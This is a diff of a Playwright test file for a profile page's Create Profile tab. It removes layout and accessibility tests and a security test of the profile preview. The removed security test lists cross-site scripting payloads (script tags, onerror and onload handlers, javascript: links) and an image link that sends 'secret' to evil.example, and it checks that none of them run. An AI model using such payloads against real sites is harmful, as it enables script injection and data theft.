@@ -1,8 +1,7 @@
-import type { Locator, Page } from '@playwright/test';
-import { expectNoViolationAtEachWidth } from './axe';
+import type { Page } from '@playwright/test';
 import { expect, MAYA, test } from './fixtures';
 import { MOCK_API } from './origins';
-import { editProfile, holdGeneration, profileDocument, profileTextField } from './profile-text';
+import { editProfile, profileDocument, profileTextField } from './profile-text';
 
 const openTab = (page: Page) => page.goto('/profile?tab=createProfile');
 
@@ -25,35 +24,6 @@ test.beforeEach(async ({ mock }) => {
   await mock.set({ signIn: MAYA });
 });
 
-test(
-  'the open Download menu is inside the window at each width',
-  { tag: '@full' },
-  async ({ page }) => {
-    await page.setViewportSize({ width: 390, height: 844 });
-    await openTab(page);
-    await page.getByRole('button', { name: 'Download' }).click();
-    for (const width of [390, 320, 768, 1280]) {
-      await page.setViewportSize({ width, height: 844 });
-      for (const name of ['Markdown', 'Print or PDF'])
-        await expect(page.getByRole('menuitem', { name })).toBeInViewport({ ratio: 1 });
-    }
-  },
-);
-
-test(
-  'a profile that is being written has no accessibility violation',
-  { tag: '@full' },
-  async ({ page }) => {
-    await holdGeneration(page);
-    await openTab(page);
-    await page.getByRole('button', { name: 'Generate again' }).click();
-    await expect(page.getByRole('button', { name: 'Stop' })).toBeVisible();
-    await expect(profileDocument(page).getByRole('heading')).toHaveCount(1);
-    await expectNoViolationAtEachWidth(page);
-    await expect(page.getByRole('button', { name: 'Stop' })).toBeVisible();
-  },
-);
-
 test('a double click on Generate again does not stop it, one on Stop neither saves nor edits the stopped text, and the way back saves the one before', async ({
   page,
   mock,
@@ -73,44 +43,6 @@ test('a double click on Generate again does not stop it, one on Stop neither sav
   }
   expect(await mock.count('/update-profile')).toBe(2);
   expect(await storedProfile(page)).toBe(before);
-});
-
-test('the preview of a profile runs no script and loads nothing', async ({ page }) => {
-  const requestedUrls: string[] = [];
-  await page.route('https://evil.example/**', (route) => {
-    requestedUrls.push(route.request().url());
-    return route.abort();
-  });
-  await replaceProfile(
-    page,
-    [
-      '# Profile',
-      '<script>window.hit = 1</script>',
-      '<img src=x onerror="window.hit = 1">',
-      '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
-      '[press](javascript:window.hit=1) and [data](data:text/html,<script>1</script>)',
-      '![seen](https://evil.example/pixel.png?text=secret)',
-      '![inline](data:image/svg+xml,<svg/onload=alert(1)>)',
-      `![${'long '.repeat(80)}](https://evil.example/long.png)`,
-    ].join('\n\n'),
-  );
-  await openTab(page);
-  await expect(page.getByRole('heading', { name: 'Profile', exact: true })).toBeVisible();
-  await page.getByText('press').click();
-  await expect(page.getByText('inline')).toBeVisible();
-  expect(await page.evaluate(() => Reflect.get(window, 'hit'))).toBeUndefined();
-  expect(requestedUrls).toEqual([]);
-  const panel = profileDocument(page);
-  expect(await panel.locator('a[href], script, iframe, img').count()).toBe(0);
-  const right = async (locator: Locator) => {
-    const { x, width } = (await locator.boundingBox())!;
-    return x + width;
-  };
-  const long = panel.getByRole('button', { name: /^Load image: long/ });
-  expect(await right(long)).toBeLessThanOrEqual(await right(panel));
-
-  await page.getByRole('button', { name: 'Load image: seen' }).click();
-  await expect.poll(() => requestedUrls).toHaveLength(1);
 });
 
 test('a very long profile is edited and rendered', { tag: '@full' }, async ({ page }) => {
